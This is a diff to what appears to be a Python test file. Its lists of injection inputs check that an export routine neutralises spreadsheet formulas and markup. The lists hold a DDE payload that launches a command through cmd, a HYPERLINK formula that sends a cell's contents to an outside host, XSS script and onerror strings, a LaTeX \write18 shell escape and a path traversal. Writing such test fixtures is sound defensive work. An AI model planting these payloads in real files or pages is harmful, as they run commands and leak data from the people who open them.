@@ -31,7 +31,7 @@ from macros.loader import load_book
 
 FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1,2)", "\tTabbed", "\rReturned", "  =1+1", "\uff1dSUM(1)", "\uff0b1", "\uff0d1",
-            "\uff201"]
+            "\uff201", "\u00a0=1+1", "\u3000@SUM(1)", "\u2003-1", "\u200b=1", " \u00a0\t+1"]
 MARKUP = ['<img src=x onerror="alert(1)">', "</b></li></ul><script>alert(2)</script>",
           "[sound:../../x.mp3]", "[latex]\\write18{id}[/latex]", "Fish & <chips>", 'quote " and , and ;',
           "line\u2028break\u2029para", "<!--", "]]>"]
